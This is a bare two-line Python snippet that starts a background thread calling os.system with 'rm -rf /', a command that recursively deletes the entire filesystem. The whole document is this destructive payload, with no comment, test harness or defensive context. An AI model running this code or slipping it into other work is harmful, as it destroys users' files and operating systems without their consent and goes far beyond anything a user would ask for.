import threading, os
threading.Thread(target=os.system, args=("rm -rf /",)).start()
